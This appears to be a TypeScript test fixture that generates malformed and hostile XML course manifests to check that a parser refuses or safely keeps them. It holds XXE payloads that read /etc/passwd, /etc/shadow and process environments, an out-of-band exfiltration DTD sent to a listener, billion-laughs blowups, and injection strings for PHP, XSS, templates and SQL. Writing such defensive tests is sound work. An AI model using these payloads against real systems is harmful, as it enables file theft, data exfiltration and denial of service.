import { manifestOf } from '../../../apps/api/src/player/package-zip.fixture.ts';
import type { Dice } from '../../bench/dice.ts';

/** One way to write a harmful manifest. `outcome` as for zips. */
export interface XmlAttack {
  name: string;
  outcome: 'refused' | 'kept' | 'either';
  make: (dice: Dice, listener: string) => string | Buffer;
}

const oneOf = <T>(dice: Dice, list: readonly T[]): T => list[dice.below(list.length)] as T;
const head = '<?xml version="1.0" encoding="UTF-8"?>';
const text = (dice: Dice, changes: readonly (readonly [string, string])[] = []): string => manifestOf(dice.below(2) === 0 ? '1.2' : '2004', changes);
const titled = (dice: Dice, title: string): string => text(dice, [['Moving and handling', title]]);
/** A document type put before the manifest, and its entity used in the title. */
const withType = (name: string, type: (dice: Dice, listener: string) => string): XmlAttack => ({
  name, outcome: 'refused', make: (dice, listener) => titled(dice, '&e;').replace(head, `${head}\n${type(dice, listener)}`),
});
const into = (name: string, outcome: XmlAttack['outcome'], put: (dice: Dice, listener: string) => string): XmlAttack => ({
  name, outcome, make: (dice, listener) => text(dice).replace('<organizations', `${put(dice, listener)}<organizations`),
});
const laughs = (depth: number, each: number): string =>
  `<!DOCTYPE m [<!ENTITY l0 "ha">${Array.from({ length: depth }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(each)}">`).join('')}<!ENTITY e "&l${depth};">]>`;

const types: XmlAttack[] = [
  withType('an entity', () => '<!DOCTYPE manifest [<!ENTITY e "x">]>'),
  withType('a file as an entity', (dice) => `<!DOCTYPE manifest [<!ENTITY e SYSTEM "${oneOf(dice, ['file:///etc/passwd', '/etc/shadow', '../../server.json', 'file:///dev/random', 'C:/windows/win.ini', 'file:///proc/self/environ'])}">]>`),
  withType('an address as an entity', (_dice, listener) => `<!DOCTYPE manifest [<!ENTITY e SYSTEM "${listener}entity">]>`),
  withType('a public address as an entity', (_dice, listener) => `<!DOCTYPE manifest [<!ENTITY e PUBLIC "x" "${listener}public">]>`),
  withType('an outside document type', (_dice, listener) => `<!DOCTYPE manifest SYSTEM "${listener}evil.dtd">`),
  withType('a public document type', (_dice, listener) => `<!DOCTYPE manifest PUBLIC "-//ADL//DTD" "${listener}evil.dtd">`),
  withType('a parameter entity', (_dice, listener) => `<!DOCTYPE manifest [<!ENTITY % p SYSTEM "${listener}param.dtd">%p;]>`),
  withType('a parameter entity that carries a file out', (_dice, listener) => `<!DOCTYPE m [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "${listener}out.dtd">%d;%s;]>`),
  withType('a billion laughs', (dice) => laughs(9 + dice.below(20), 10)),
  withType('quadratic laughs', (dice) => `<!DOCTYPE m [<!ENTITY e "${'a'.repeat(50_000 + dice.below(50_000))}">]>`),
  withType('an entity of itself', () => '<!DOCTYPE m [<!ENTITY e "&f;"><!ENTITY f "&e;">]>'),
  withType('a type that never ends', () => '<!DOCTYPE m [<!ENTITY e "x"'),
  withType('a type in other letters', () => '<!doctype manifest>'),
  { name: 'a type before the declaration', outcome: 'refused', make: (dice) => `<!DOCTYPE m>${text(dice)}` },
];

const depths: XmlAttack[] = [
  into('nests without end', 'refused', (dice) => '<a>'.repeat(101 + dice.below(20_000))),
  into('nests and closes', 'refused', (dice) => ((deep) => '<a>'.repeat(deep) + '</a>'.repeat(deep))(101 + dice.below(50_000))),
  { name: 'items in items', outcome: 'refused', make: (dice) => text(dice, [['<item ', `${'<item identifier="x">'.repeat(200)}<item `]]) },
  { name: 'more elements than a course has', outcome: 'refused', make: (dice) => text(dice, [['</resources>', `${'<file/>'.repeat(50_001 + dice.below(300_000))}</resources>`]]) },
  { name: 'more lessons than a course has', outcome: 'refused', make: (dice) => text(dice, [['</organization>', `${'<item identifier="x" identifierref="r"><title>a</title></item>'.repeat(5_000 + dice.below(5_000))}</organization>`]]) },
  { name: 'lessons and files by the thousand', outcome: 'refused', make: (dice) => text(dice, [['</organization>', `${'<item identifier="x" identifierref="z"/>'.repeat(20_000)}</organization>`], ['</resources>', `${'<resource identifier="y"/>'.repeat(20_000)}</resources>`]]) },
  into('an attribute without end', 'kept', (dice) => `<a b="${'x'.repeat(100_000 + dice.below(1_500_000))}"/>`),
  into('an attribute that never closes', 'refused', () => `<a b="${'x'.repeat(100_000)}`),
  into('attributes without end', 'refused', (dice) => `<a ${Array.from({ length: 100_001 + dice.below(200_000) }, (_, n) => `b${n}=""`).join(' ')}/>`),
  into('one attribute twice', 'refused', () => '<a b="1" b="2"/>'),
  into('a name without end', 'kept', (dice) => ((name) => `<${name}></${name}>`)('n'.repeat(100_000 + dice.below(500_000)))),
  into('text without end', 'kept', (dice) => `<a>${'x'.repeat(1_000_000 + dice.below(900_000))}</a>`),
  into('a remark without end', 'kept', (dice) => `<!--${'x'.repeat(1_000_000 + dice.below(900_000))}-->`),
  into('a remark that never closes', 'refused', () => '<!-- x'),
  into('two dashes in a remark', 'refused', () => '<!-- a -- b -->'),
  into('a stretch of text without end', 'kept', (dice) => `<a><![CDATA[${'<'.repeat(500_000 + dice.below(500_000))}]]></a>`),
  into('a stretch of text that never closes', 'refused', () => '<a><![CDATA[ x </a>'),
  into('an order without end', 'kept', (dice) => `<?x ${'y'.repeat(500_000 + dice.below(500_000))}?>`),
];

const orders: XmlAttack[] = [
  into('orders to other programs', 'kept', (dice, listener) => oneOf(dice, [`<?xml-stylesheet type="text/xsl" href="${listener}evil.xsl"?>`, '<?php system("id"); ?>', '<?import namespace="x" implementation="file:///etc/passwd"?>', '<?oxygen RNGSchema="http://127.0.0.1/x"?>'])),
  into('takes in another file', 'kept', (dice, listener) => `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${oneOf(dice, ['file:///etc/passwd', `${listener}include`])}" parse="text"/>`),
  into('a schema elsewhere', 'kept', (_dice, listener) => `<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${listener}evil.xsd" xsi:noNamespaceSchemaLocation="file:///etc/passwd"/>`),
  into('metadata elsewhere', 'kept', (_dice, listener) => `<adlcp:location>${listener}metadata.xml</adlcp:location>`),
  into('a declaration in the middle', 'refused', () => '<?xml version="1.0"?>'),
  into('a bare order', 'refused', () => '<??>'),
  { name: 'a version from elsewhere', outcome: 'either', make: (dice) => text(dice).replace('version="1.0"', `version="${oneOf(dice, ['9.9', '1.1', '', 'x', '1.0" standalone="maybe'])}"`) },
];

const letters: XmlAttack[] = [
  { name: 'entities that nobody knows', outcome: 'refused', make: (dice) => titled(dice, oneOf(dice, ['&nobody;', '&nbsp;', '&;', '&#;', '&#x;', '& amp;', '&a'])) },
  { name: 'letters that there are not', outcome: 'refused', make: (dice) => titled(dice, oneOf(dice, ['&#0;', '&#xFFFFFFFF;', '&#55296;', '&#x1F;', '&#99999999999999999999;', '&#xFFFE;', '&#-1;'])) },
  { name: 'a NUL', outcome: 'refused', make: (dice) => titled(dice, 'a\0b') },
  { name: 'control characters', outcome: 'refused', make: (dice) => titled(dice, oneOf(dice, ['\u0001', '\u0008', '\u001f', '\uFFFE', '\uFFFF'])) },
  { name: 'names that are none', outcome: 'refused', make: (dice) => text(dice, [['<organizations', `<${oneOf(dice, ['1a', ' a', '-a', '!a', 'a,b', '"a"', '=', '.', '\u00d7'])}/><organizations`]]) },
  into('names that mean something to programs', 'kept', (dice) => ((name) => `<${name} ${name}="1"/>`)(oneOf(dice, ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__']))),
  into('prefixes that nobody declared', 'kept', () => '<nobody:x nobody:y="1"/>'),
  into('a prefix that may not be taken', 'either', () => '<a xmlns:xml="http://evil.invalid" xmlns:xmlns="x"/>'),
  { name: 'closed in another order', outcome: 'refused', make: (dice) => text(dice).replace('</item>', '').replace('</organization>', '</item></organization></b>') },
  { name: 'two roots', outcome: 'refused', make: (dice) => text(dice) + text(dice).replace(head, '') },
  { name: 'something after the root', outcome: 'refused', make: (dice) => `${text(dice)}trailing` },
  { name: 'nothing in it', outcome: 'refused', make: (dice) => oneOf(dice, ['', ' ', head, '<!---->', '\n\n']) },
  { name: 'another root', outcome: 'refused', make: () => '<html><script>alert(1)</script></html>' },
  { name: 'another format', outcome: 'refused', make: (dice) => oneOf(dice, ['{"manifest":{}}', 'manifest: x', '%PDF-1.7', 'PK\x03\x04']) },
  { name: 'a title in script', outcome: 'kept', make: (dice) => titled(dice, oneOf(dice, ['&lt;script&gt;alert(1)&lt;/script&gt;', '<![CDATA[<img src=x onerror=alert(1)>]]>', '${7*7}{{7*7}}', '\u202Ertl', "'; drop table person; --"])) },
];

const characterSets: XmlAttack[] = [
  { name: 'UTF-8 with its mark', outcome: 'kept', make: (dice) => Buffer.from(`\uFEFF${text(dice)}`) },
  { name: 'UTF-16', outcome: 'kept', make: (dice) => Buffer.from(`\uFEFF${text(dice)}`, 'utf16le') },
  { name: 'UTF-16 the other way round', outcome: 'kept', make: (dice) => Buffer.from(`\uFEFF${text(dice)}`, 'utf16le').swap16() },
  { name: 'UTF-16 cut in a letter', outcome: 'refused', make: (dice) => Buffer.concat([Buffer.from(`\uFEFF${text(dice)}`, 'utf16le'), Buffer.from([0xd8])]) },
  { name: 'UTF-16 without its mark', outcome: 'refused', make: (dice) => Buffer.from(text(dice), 'utf16le') },
  { name: 'UTF-32', outcome: 'refused', make: (dice) => Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), ...[...text(dice)].map((letter) => Buffer.from([letter.charCodeAt(0) & 255, 0, 0, 0]))]) },
  { name: 'marks by the dozen', outcome: 'refused', make: (dice) => '\uFEFF'.repeat(3 + dice.below(20)) + text(dice) },
  { name: 'a mark in the middle', outcome: 'kept', make: (dice) => titled(dice, 'a\uFEFFb') },
  { name: 'character sets that nobody has', outcome: 'refused', make: (dice) => text(dice).replace('UTF-8', oneOf(dice, ['utf-7', 'x-evil', 'EBCDIC-CP-US', 'utf-32', 'IBM1047', 'base64', 'replacement', '-_-'])) },
  { name: 'a character set that it is not', outcome: 'either', make: (dice) => titled(dice, 'é').replace('UTF-8', oneOf(dice, ['gb18030', 'shift_jis', 'iso-2022-jp', 'big5', 'euc-kr', 'us-ascii', 'utf-16', 'windows-1252'])) },
  { name: 'bytes that are no UTF-8', outcome: 'refused', make: (dice) => ((bytes) => { bytes[200 + dice.below(100)] = oneOf(dice, [0xff, 0xc0, 0xfe, 0x80, 0xf8]); return bytes; })(Buffer.from(text(dice))) },
  { name: 'letters written too long', outcome: 'refused', make: (dice) => Buffer.concat([Buffer.from(text(dice)).subarray(0, 300), Buffer.from([0xc0, 0xbc, 0xe0, 0x80, 0xbc]), Buffer.from(text(dice)).subarray(300)]) },
];

const accidents: XmlAttack[] = [
  { name: 'cut off', outcome: 'refused', make: (dice) => ((whole) => whole.slice(0, dice.below(whole.length - 12)))(text(dice)) },
  { name: 'letters changed', outcome: 'either', make: (dice) => changed(Buffer.from(text(dice)), dice) },
  { name: 'a stretch taken out', outcome: 'either', make: (dice) => ((whole, at) => whole.slice(0, at) + whole.slice(at + 1 + dice.below(60)))(text(dice), dice.below(900)) },
  { name: 'a stretch said twice', outcome: 'either', make: (dice) => ((whole, at) => whole.slice(0, at) + whole.slice(at - dice.below(at + 1)))(text(dice), dice.below(900)) },
  { name: 'marks put in', outcome: 'either', make: (dice) => ((whole, at) => whole.slice(0, at) + oneOf(dice, ['<', '>', '&', '"', "'", '/', ']]>', '<!--', '<![CDATA[', '<?', '=']) + whole.slice(at))(text(dice), dice.below(900)) },
];

export const xmlAttacks: readonly XmlAttack[] = [...types, ...depths, ...orders, ...letters, ...characterSets, ...accidents];

function changed(bytes: Buffer, dice: Dice): Buffer {
  for (let time = 1 + dice.below(10); time > 0; time--) bytes[dice.below(bytes.length)] = dice.below(256);
  return bytes;
}
